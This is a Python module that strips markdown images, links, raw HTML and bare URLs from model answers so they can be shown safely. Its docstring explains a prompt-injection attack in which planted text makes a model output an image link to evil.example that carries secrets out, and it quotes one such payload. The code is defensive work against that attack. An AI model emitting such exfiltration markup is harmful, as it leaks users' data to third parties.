"""Model answers made safe to show: what a CommonMark renderer would turn into a request is removed.

An answer can repeat text planted in a document, e.g. `![a[b]c](//evil.example/leak?d=secret)`:
rendered as markdown, the browser fetches that image and the URL carries whatever the model put
in it. Regexes cannot see what a renderer sees (nested brackets, entity-encoded schemes,
protocol-relative URLs, reference definitions), so the answer is parsed with markdown-it-py's
CommonMark parser and only its visible text is kept: images, links, autolinks, raw HTML and
reference definitions leave the token stream; link text stays, bare remote URLs are replaced.

- `sanitize_answer(text)` -> plain visible text (what reports, metrics and exports store);
- `answer_markdown(text)` -> that text escaped so `st.markdown` shows it literally, line breaks
  kept (defence in depth: no markdown construct of any flavour can form from it).
"""

from __future__ import annotations

import re

from markdown_it import MarkdownIt

IMAGE_REMOVED = "[image removed]"
LINK_REMOVED = "[link removed]"

# CommonMark with raw HTML recognised (so it can be dropped), no linkify: bare URLs are handled below.
# markdown-it refuses javascript:/data: links and leaves them as text; other renderers may not, so
# here every destination counts as a link and is removed with the rest.
_PARSER = MarkdownIt("commonmark")
_PARSER.validateLink = lambda url: True
# Tokens that make a renderer emit a URL or markup; none may survive.
_FORBIDDEN = {"image", "link_open", "html_inline", "html_block"}
# Bare URLs a GFM renderer turns into links (remark-gfm autolink literals: scheme://, www.) and the
# schemes that act without a host (data:, javascript:, ...); "ratio 3:1" or "Note:" stay.
_BARE_URL = re.compile(r"(?:\b[a-z][a-z0-9+.-]*://|\bwww\.|\b(?:data|javascript|vbscript|file|mailto|xmpp):)\S+",
                       re.IGNORECASE)
_MAX_PASSES = 4
_MD_SPECIAL = re.compile(r"([!-/:-@\[-`{-~])")  # every ASCII punctuation character


def _inline_text(children) -> str:
    out = []
    for token in children or ():
        if token.type in ("text", "code_inline"):
            out.append(token.content)
        elif token.type in ("softbreak", "hardbreak"):
            out.append("\n")
        elif token.type == "image":
            out.append(IMAGE_REMOVED)
        # link_open / link_close, html_inline, emphasis markers: dropped, the text between stays
    return "".join(out)


def _visible_text(text: str) -> str:
    blocks: list[str] = []
    prefix = ""
    for token in _PARSER.parse(text):
        if token.type == "list_item_open":
            prefix = f"{token.info}{token.markup} " if token.info else f"{token.markup} "
        elif token.type == "inline":
            blocks.append(prefix + _inline_text(token.children))
            prefix = ""
        elif token.type in ("fence", "code_block"):
            blocks.append(token.content.rstrip("\n"))
        # html_block and reference definitions never reach the output
    return "\n\n".join(b for b in blocks if b.strip())


def _has_markup(text: str) -> bool:
    def walk(tokens) -> bool:
        return any(t.type in _FORBIDDEN or walk(t.children or ()) for t in tokens)

    return walk(_PARSER.parse(text))


def sanitize_answer(text: str) -> str:
    """The visible text of an answer, without anything a renderer would fetch or link.

    Parsing again can find markup the first pass made (decoded entities such as `&#33;[`), so
    passes repeat until the text is stable; if it still parses to markup, the brackets and angle
    brackets go, which leaves no image, link or tag to form.
    """
    text = str(text or "")
    for _ in range(_MAX_PASSES):
        clean = _BARE_URL.sub(LINK_REMOVED, _visible_text(text))
        if clean == text:
            break
        text = clean
    if _has_markup(text):
        text = re.sub(r"[\[\]<>]", "", text)
    return text


def answer_markdown(text: str) -> str:
    """A sanitised answer as markdown that displays literally (every punctuation escaped)."""
    escaped = _MD_SPECIAL.sub(r"\\\1", sanitize_answer(text))
    return escaped.replace("\n", "  \n")
